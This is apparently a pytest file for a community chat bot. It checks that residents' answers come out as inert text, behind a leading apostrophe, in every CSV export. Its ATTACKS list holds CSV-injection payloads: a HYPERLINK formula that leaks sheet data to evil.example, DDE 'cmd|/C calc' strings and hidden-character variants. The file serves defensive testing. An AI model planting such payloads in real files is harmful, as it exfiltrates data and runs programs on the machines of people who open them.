"""Spreadsheet formulas in answers stay text in every CSV Minyi writes (issue 14 defect 3).

Residents' words go into `/export`, `minyi export` and the digest's CSV; a cell a spreadsheet
would evaluate (`=HYPERLINK(…)` leaking the sheet to evil.example, `+cmd|…` running a program,
`@SUM(…)`, `=1+1` behind a tab) must be written as text (OWASP's CSV-injection guidance: a
leading apostrophe). The product writes CSV in two places only, both through `safe_cell`:
bot/core/exports.py `CsvWriter` and bot/core/csvfiles.py `write_csv`.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import unicodedata
from datetime import timedelta
from pathlib import Path

from bot.core.csvfiles import write_csv
from bot.core.exports import period_csv
from tests.e2e.test_privacy import ask_in_a_new_group, export_csv
from tests.harness import SECRET, RunningBot

ROOT = Path(__file__).resolve().parents[2]

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1 物业费",  # full-width equals sign: spreadsheets fold it
    "\u200b=1+1 停车",  # behind a zero-width space
]


def evaluable(cell: str) -> bool:
    """Whether a spreadsheet could read `cell` as a formula: its first visible character
    (blanks and invisible characters skipped, width folded) starts one."""
    for char in cell:
        if char.isspace() or unicodedata.category(char) in ("Cf", "Cc"):
            continue
        return unicodedata.normalize("NFKC", char)[:1] in "=+-@"
    return False


def text_cells(data: str) -> list[str]:
    """The `text` column of a CSV export (BOM removed)."""
    return [row["text"] for row in csv.DictReader(io.StringIO(data.removeprefix("\ufeff")))]


def assert_neutralised(cells: list[str]) -> None:
    """Every attack is in the column, as text behind an apostrophe; no cell is evaluable."""
    assert not [c for c in cells if evaluable(c)], cells
    for attack in ATTACKS:
        assert "'" + attack.strip() in cells, (attack, cells)


async def answered(bot: RunningBot) -> None:
    """A round in one community, answered with every attack string by its own resident."""
    group, post = await ask_in_a_new_group(bot, "/ask 1h 物业服务有什么问题？")
    for index, attack in enumerate(ATTACKS):
        resident = bot.emulator.add_user(f"居民{index}")
        bot.emulator.send_message(resident, group, attack, reply_to=post["message_id"])
    await bot.settle()
    async with bot.core.repo.transaction() as session:
        stored = [a.text for a in await session.list_answers(include_hidden=True)]
    assert sorted(stored) == sorted(a.strip() for a in ATTACKS)


async def test_export_command_writes_formulas_as_text(minyi_bot: RunningBot) -> None:
    """The CSV `/export` sends the organiser holds every attack as inert text."""
    await answered(minyi_bot)
    group = minyi_bot.groups["碧海社区"]
    assert_neutralised(text_cells(await export_csv(minyi_bot, group)))


async def test_cli_export_writes_formulas_as_text(minyi_bot: RunningBot, tmp_path: Path) -> None:
    """`minyi export`, run as an operator runs it on the same database, neutralises them too."""
    await answered(minyi_bot)
    config = tmp_path / "export.toml"
    config.write_text(
        f'[storage]\nurl = "{minyi_bot.settings.storage.url}"\n[privacy]\nsecret = "{SECRET}"\n',
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, "-m", "bot", "--config", str(config), "export"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr
    assert_neutralised(text_cells(done.stdout))


async def test_digest_csv_writes_formulas_as_text(minyi_bot: RunningBot) -> None:
    """The digest's CSV of the period's answers neutralises them as well."""
    await answered(minyi_bot)
    now = minyi_bot.core.now()
    data, count = await period_csv(minyi_bot.core, now - timedelta(days=1), now + timedelta(1))
    assert count == len(ATTACKS)
    assert_neutralised(text_cells(data.decode("utf-8")))


def test_write_csv_neutralises_headers_and_cells() -> None:
    """The other CSV writer (bot/core/csvfiles.py) neutralises header and cells alike, and
    keeps real numbers numeric."""
    data = write_csv([["+cmd|' /C calc'!A0", -3.5], {"=名称": "@SUM(1)", "值": 2}], ["=名称", "值"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["'=名称", "值"], ["'+cmd|' /C calc'!A0", "-3.5"], ["'@SUM(1)", "2"]]
